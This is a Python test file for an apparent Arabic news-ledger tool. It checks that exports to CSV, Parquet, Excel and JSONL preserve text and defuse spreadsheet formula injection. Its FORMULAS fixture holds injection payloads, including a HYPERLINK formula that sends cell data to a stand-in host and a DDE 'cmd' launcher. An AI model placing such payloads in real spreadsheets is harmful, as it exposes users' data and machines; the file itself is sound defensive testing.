"""Whatever stands in an article, a name or an address: every format can still be read, runs nothing, and gives back what was there."""

import csv
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from pyarrow import parquet
from validators import as_told, csv_rows, faults

import tawatur
from tawatur.export import FORMATS
from tawatur.export.cells import harmless, legal, meant, unescaped, xml
from tawatur.export.excel import LONGEST, escaped, parts

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1;"انقر")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1", "'=1", "＝1", "#REF!",
    "=", "'", "''",
)  # fmt: skip
ODD = (
    "قبل\0بعد", "\x01\x0b\x1f", "\ufffe\uffff", "\u202eقلب\u202c", "\u2067عزل\u2069", "سطر\r\nآخر\rوآخر\nوأخير", "\u2028\u2029\x85",
    "a,b;c\td", '"\'`<b>&amp;]]>', "_x0041_ _x000D_", "\ufeff", "😀𐀀", " ", "C:\\\\x\\n",
)  # fmt: skip
SAID = "قال وزير النقل سامي الحداد، الأحد، إن 14 سفينة دخلت الميناء، بحسب وكالة الأنباء، ونفى مدير الميناء «{odd}» ذلك."


def _hostile(number: int, odd: str) -> dict[str, object]:
    text = f"{odd} {SAID.format(odd=odd)}\n{odd}\n"
    text += f"أكدت شركة «{odd} للنقل» في بيان أنها ستدفع 3 ملايين دولار. وقصفت روسيا مدينة خاركيف أمس.\n"
    told = {"title": odd, "outlet": odd, "author": odd, "published": "2024-03-05", "note": {odd: [odd]}}
    url = f"https://paper.example/{number}?{odd}" if number % 2 else f"{odd}#{number}"
    return {"text": text, "url": url, **told}


@pytest.fixture(scope="module")
def ledger(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    articles = [_hostile(number, odd) for number, odd in enumerate((*FORMULAS, *ODD))]
    articles.append({"text": "الطريق طويل والجبل بعيد.\n" * 2000, "url": "https://paper.example/long", "title": "ط" * 70_000})
    (folder / "articles.jsonl").write_text("".join(f"{json.dumps(article)}\n" for article in articles), "utf-8")
    with tawatur.open_ledger(folder / "ledger.db") as opened:
        failed = [answer for answer in opened.add(folder / "articles.jsonl") if isinstance(answer, Exception)]
        assert not failed
        assert opened.summary().statements > 20
        yield opened


@pytest.mark.parametrize("format", FORMATS)
def test_every_format_is_read_without_a_fault(format, ledger, tmp_path):
    ledger.export(format, tmp_path / "exported")
    found, seen = faults(format, tmp_path / "exported")
    assert found == []
    assert seen


def _articles(ledger) -> dict[str, tuple[str, str | None, str | None]]:
    """By id: the text, the title, the outlet."""
    found = (ledger.article(listed.id) for listed in ledger.articles())
    return {article.id: (article.text, article.title, article.outlet) for article, _ in found}


def test_csv_gives_back_every_character(ledger, tmp_path):
    ledger.export("csv", tmp_path / "exported")
    heads, *rows = csv_rows(tmp_path / "exported", "articles")
    read = [dict(zip(heads, map(as_told, row), strict=True)) for row in rows]
    assert {row["id"]: (row["text"], row["title"], row["outlet"] or None) for row in read} == _articles(ledger)


def test_parquet_gives_back_every_character(ledger, tmp_path):
    ledger.export("parquet", tmp_path / "exported")
    read = parquet.read_table(tmp_path / "exported" / "articles.parquet").to_pylist()
    assert {row["id"]: (row["text"], row["title"], row["outlet"]) for row in read} == _articles(ledger)


def test_excel_gives_back_every_character_and_says_where_the_rest_of_a_long_text_is(ledger, tmp_path):
    ledger.export("excel", tmp_path / "exported.xlsx")
    workbook = load_workbook(tmp_path / "exported.xlsx")
    assert all(sheet.sheet_view.rightToLeft for sheet in workbook)
    rows = list(workbook["articles"].iter_rows(values_only=True))
    whole: dict[tuple[int, str], str] = {}
    for sheet, row, column, _, part in workbook["overlong"].iter_rows(min_row=2, values_only=True):
        if sheet == "articles":
            whole[row, column] = whole.get((row, column), "") + part
    read = {}
    for number, row in enumerate(rows[1:], 2):
        cells = {head: meant(unescape(whole.get((number, head), cell) or "")) for head, cell in zip(rows[0], row, strict=True)}
        read[cells["id"]] = (cells["text"], cells["title"], cells["outlet"] or None)
        assert ((number, "text") in whole) == str(row[rows[0].index("text")]).endswith("whole in the sheet overlong]")
    assert read == _articles(ledger)
    assert len(whole) == 2


def test_jsonl_gives_back_every_character(ledger, tmp_path):
    ledger.export("jsonl", tmp_path / "exported")
    records = map(json.loads, (tmp_path / "exported").read_bytes().split(b"\n")[:-1])
    read = {line["id"]: (line["text"], line["title"], line["outlet"]) for line in records if line["record"] == "article"}
    assert read == _articles(ledger)


# ------------------------------------------------------------------ any text at all

texts = st.text(st.characters(exclude_categories=("Cs",)) | st.sampled_from("=+-@'\t\r\n\0\x1f\ufffe_x0041"), max_size=40)
of_people = texts.filter(lambda text: not any("\ufdd0" <= letter <= "\ufdef" for letter in text))
"""Without the code points that no text may hold."""


@given(of_people)
def test_what_is_escaped_is_given_back(text):
    assert unescaped(harmless(text)) == text if text.startswith("'") or harmless(text) != text else harmless(text) == text
    assert meant(legal(text)) == text
    assert len(legal(text)) == len(text)


@given(of_people)
def test_a_spreadsheet_takes_no_cell_for_a_formula(text):
    assert not harmless(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@given(of_people)
def test_xml_gives_back_what_was_written(text):
    from xml.etree import ElementTree

    element = ElementTree.fromstring(f'<a b="{xml(text)}">{xml(text)}</a>')
    assert (meant(element.text or ""), meant(element.attrib["b"])) == (text, text)


@given(of_people)
def test_excels_escapes_give_back_what_was_written(text):
    assert meant(unescape(escaped(text))) == text


@given(st.text(st.sampled_from("aش\r_x0041𐀀"), min_size=1), st.integers(1, 40_000))
def test_the_parts_of_a_long_text_fit_and_are_all_of_it(text, times):
    long = text * (1 + times // len(text))
    found = list(parts(long))
    assert "".join(found) == long
    assert all(len(escaped(part).encode("utf-16-le")) <= 2 * LONGEST for part in found)


@settings(max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(of_people.filter(str.strip), of_people, of_people)
def test_articles_with_any_name_and_text_are_exported_soundly(add, tmp_path_factory, name, title, words):
    said = {"text": SAID.format(odd=words), "url": name, "title": title, "outlet": title or None, "author": words}
    ledger = add([said, {**said, "text": f"{words}\n{SAID.format(odd=name)}", "url": f"https://a.example/{words}"}])
    folder = tmp_path_factory.mktemp("exported")
    for format in FORMATS:
        ledger.export(format, folder / format)
        assert faults(format, folder / format)[0] == [], format


def test_csv_is_read_by_the_rules_of_its_standard(ledger, tmp_path):
    ledger.export("csv", tmp_path / "exported")
    written = Path(tmp_path / "exported" / "articles.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbfid,name,")
    assert b"\0" not in written
    with (tmp_path / "exported" / "articles.csv").open(encoding="utf-8-sig", newline="") as file:
        assert len({len(row) for row in csv.reader(file, strict=True)}) == 1
